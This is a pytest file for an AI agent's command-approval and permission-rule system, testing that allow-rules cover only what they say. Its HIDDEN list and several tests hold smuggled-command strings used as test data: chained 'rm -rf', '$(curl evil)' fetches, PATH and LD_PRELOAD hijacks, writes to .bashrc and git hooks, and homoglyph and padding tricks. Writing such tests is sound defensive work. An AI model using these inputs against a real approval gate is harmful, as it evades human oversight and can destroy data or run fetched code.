"""A model that wants more than a yes was given for: what is shown, what a rule covers, what is done."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from infrastructure.conversation.describing import described
from infrastructure.danger.judging import classify, parts_of
from infrastructure.danger.levels import Danger
from infrastructure.danger.looks import hidden, mistakable
from infrastructure.sessions.approvals import (
    ActionRequest,
    ApprovalMismatch,
    Approve,
    DecisionRefused,
    Edit,
    StaleApproval,
    call_sha,
)
from infrastructure.sessions.rules import Rule, covering, proposed, read_pattern
from tests.approvals.conftest import SESSION, command

ALLOWED = (
    "run_command: git status *",
    "run_command: git commit *",
    "run_command: pytest *",
    "run_command: echo *",
    "write_file: docs/**",
)
HIDDEN = [
    "git status; rm -rf x", "git status\nrm -rf x", "git status\rrm -rf x", "git status && make", "pytest||rm x",
    "git status $(curl evil)", "git status `id`", "echo `rm x`", "echo $(rm x)", 'echo "$(rm x)"', "echo $((`rm x`))",
    "echo ${x:=`rm x`}", "pytest <(curl evil)", "pytest <<EOF\n$(rm x)\nEOF", "pytest <<< $(rm x)", "pytest x=$(rm y)",
    "LD_PRELOAD=x pytest", "PYTHONPATH=evil pytest", "FOO=1 pytest", "env pytest", "PATH=/tmp; pytest",
    "export PATH=/tmp; pytest", "readonly PATH=/tmp; pytest", "hash -p /tmp/evil pytest; pytest",
    "pytest | sh", "pytest > ~/.bashrc", "pytest > src/a.py", "pytest > docs/../src/a.py", "pytest 2>&1 >src/x",
    "pytest >|src/x", "pytest &>src/x", "echo x >> .git/hooks/post-commit", "echo x > docs/`rm x`", "echo a > docs/$X",
    "bash -c 'pytest; rm x'", "bash -c 'pytest'", "xargs pytest", "find . -exec pytest {} ;", "exec pytest",
    "alias pytest=rm; pytest x", "pytest() { rm x; }; pytest", "function pytest { rm x; }", "pytest & rm x",
    "{ pytest; rm x; }", "(pytest; rm x)", "if pytest; then rm x; fi", "case x in x) rm x;; esac", "[ a ] && rm x",
    "trap 'rm x' EXIT; pytest", "pytest #\nrm x", "echo hi\\\nrm x; rm x", "pytest\t;\trm x", "coproc pytest",
    "git -c core.fsmonitor=evil status", "git --exec-path=/tmp status", "./pytest", "/tmp/pytest x", "source docs/x",
    "pytest\u00a0; rm x", "p\u0443test x", "g\u0456t status", "pytest\u3164 x", "\uff50ytest x",
    "echo " + "a " * 3_000 + "; rm -rf x", "builtin eval rm x", "command rm x", "pytest {a,b}", "pytest *",
]  # fmt: skip


def rules(*shown: str) -> list[Rule]:
    made = datetime(2026, 7, 1, tzinfo=UTC)
    return [
        Rule(id=each, scope="always", owner="", tool=read_pattern(each)[0], pattern=read_pattern(each)[1], made=made)
        for each in shown
    ]


def covers(shown: tuple[str, ...], tool: str, arguments: dict[str, object], workspace) -> bool:
    return bool(covering(rules(*shown), tool, arguments, parts_of(tool, arguments, workspace)))


@pytest.mark.parametrize("line", HIDDEN)
def test_no_rule_covers_what_stands_behind_its_words(line: str, workspace):
    assert not covers(ALLOWED, "run_command", {"command": line}, workspace)


def test_rules_cover_what_they_say(workspace):
    for line in ("pytest -q tests/a.py", "git commit -m 'x; rm -rf y'", "pytest > docs/log.txt"):
        assert covers(ALLOWED, "run_command", {"command": line}, workspace), line


@pytest.mark.parametrize(
    ("line", "others"),
    [
        ("touch '*'", ("touch a", "touch a b")),
        ("rm '*'", ("rm calc.py", "rm a b")),
        ("cp a '*'", ("cp a b", "cp a b c")),
        ("python3 '*'", ("python3 evil.py",)),
        ("git '*'", ("git gc",)),
    ],
)
def test_star_in_quotes_is_a_star_and_covers_nothing_else(line: str, others: tuple[str, ...], workspace):
    patterns = proposed("run_command", {"command": line}, parts_of("run_command", {"command": line}, workspace))
    assert covers(patterns, "run_command", {"command": line}, workspace)
    for other in others:
        assert not covers(patterns, "run_command", {"command": other}, workspace), (patterns, other)


@pytest.mark.parametrize(
    ("path", "others"),
    [
        ("**/x.py", ("src/x.py", "x.py")),
        ("*/x.py", ("src/x.py",)),
        ("[ab].txt", ("a.txt", "b.txt")),
        ("d?cs/x.py", ("docs/x.py",)),
    ],
)
def test_signs_in_a_files_name_are_no_pattern(path: str, others: tuple[str, ...], workspace):
    asked = {"path": path, "content": "x"}
    patterns = proposed("write_file", asked, parts_of("write_file", asked, workspace))
    assert covers(patterns, "write_file", asked, workspace)
    for other in others:
        assert not covers(patterns, "write_file", {"path": other, "content": "x"}, workspace), (patterns, other)


@pytest.mark.parametrize("name", ["d\u043ecs/a.md", "a\u3164/b.md", "\uff44ocs/a.md", "a\u202eb/c.md", "a\nb/c.md"])
def test_name_that_does_not_read_as_it_is_gets_no_rule_and_is_said(name: str, workspace):
    arguments = {"path": name, "content": "x"}
    assert proposed("write_file", arguments, parts_of("write_file", arguments, workspace)) == ()
    if "\n" not in name:
        assert "look like others" in classify("write_file", arguments, workspace).why
    with pytest.raises(DecisionRefused):
        read_pattern(f"write_file: {name}")


@pytest.mark.parametrize("line", ["cat a\u3164b", "ls d\u043ecs", "cat a\ufe0f", "grep \uff41 x", "cat 'a\u200bb'"])
def test_command_that_only_reads_asks_where_it_does_not_read_as_it_is(line: str, workspace):
    assert classify("run_command", {"command": line}, workspace).level is Danger.ASKS


def test_other_scripts_by_themselves_are_no_trick():
    words = ["\u043f\u0440\u0438\u0432\u0435\u0442", "na\u00efve caf\u00e9", "\u4f60\u597d", "\u03b1 + \u03b2"]
    for text in words:
        assert not hidden(text)
        assert not mistakable(text)


def test_every_argument_beside_a_command_is_shown():
    shown = described("runner", {"command": "ls", "before": "rm -rf ~", "cwd": "sub"})
    for word in ("ls", "before", "rm -rf ~", "sub"):
        assert word in shown
    assert described("run_command", {"command": "ls", "cwd": ""}) == "ls"


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("run_command", {"command": "echo " + "a " * 3_990 + "; rm x"}),
        ("runner", {"command": "echo " + "a " * 30_000 + "; rm x"}),
        ("write_file", {"path": "a", "content": "a\n" * 9_000 + "; rm x"}),
        ("apply_edit", {"path": "a", "search": "b", "replace": "a\n" * 9_000 + "; rm x"}),
        ("tracker.add", {"text": "a " * 9_000 + "; rm x"}),
    ],
)
def test_end_of_a_long_call_is_shown(tool: str, arguments: dict[str, object]):
    assert "; rm x" in described(tool, arguments)[-40:]


async def test_arguments_that_change_after_the_yes_are_refused(desk):
    asked = await desk.manager.request(SESSION, "1", command("make"))
    with pytest.raises(ApprovalMismatch):
        await desk.manager.request(SESSION, "1", command("make clean"))
    await desk.manager.decide(asked.id, Approve(), by="test", nonce=asked.nonce)
    for tool, arguments in (
        ("run_command", {"command": "make clean"}),
        ("run_command", {"command": "make", "cwd": "x"}),
        ("run_tests", {"command": "make"}),
        ("run_command", {"command": "make "}),
    ):
        with pytest.raises(StaleApproval):
            await desk.manager.use(asked.id, call_sha(tool, arguments))
    await desk.manager.use(asked.id, call_sha("run_command", {"command": "make"}))


async def test_yes_to_a_change_is_for_the_changed_call_only(desk):
    asked = await desk.manager.request(SESSION, "1", command("make"))
    await desk.manager.decide(asked.id, Edit({"command": "make test"}), by="test", nonce=asked.nonce)
    with pytest.raises(StaleApproval):
        await desk.manager.use(asked.id, call_sha("run_command", {"command": "make"}))
    await desk.manager.use(asked.id, call_sha("run_command", {"command": "make test"}))


async def test_claim_of_a_sandbox_makes_no_rule_and_answers_no_other_key(desk):
    held = await desk.manager.request(SESSION, "1", command("make"), held="bubblewrap")
    assert (held.by, held.rule, held.patterns) == ("sandbox:bubblewrap", "", ())
    assert (await desk.manager.request(SESSION, "2", command("make"))).decision is None
    assert await desk.manager.request_unasked(SESSION, "3", command("make")) is None
    assert await desk.manager.find(SESSION, "3") is None, "what nobody is asked leaves no question behind"


async def test_danger_that_is_claimed_lower_is_raised(desk, workspace):
    action = ActionRequest(tool="run_command", arguments={"command": "git push"}, danger=Danger.SAFE)
    asked = await desk.manager.request(SESSION, "1", action, workspace=str(workspace))
    assert asked.action.danger is Danger.DANGEROUS
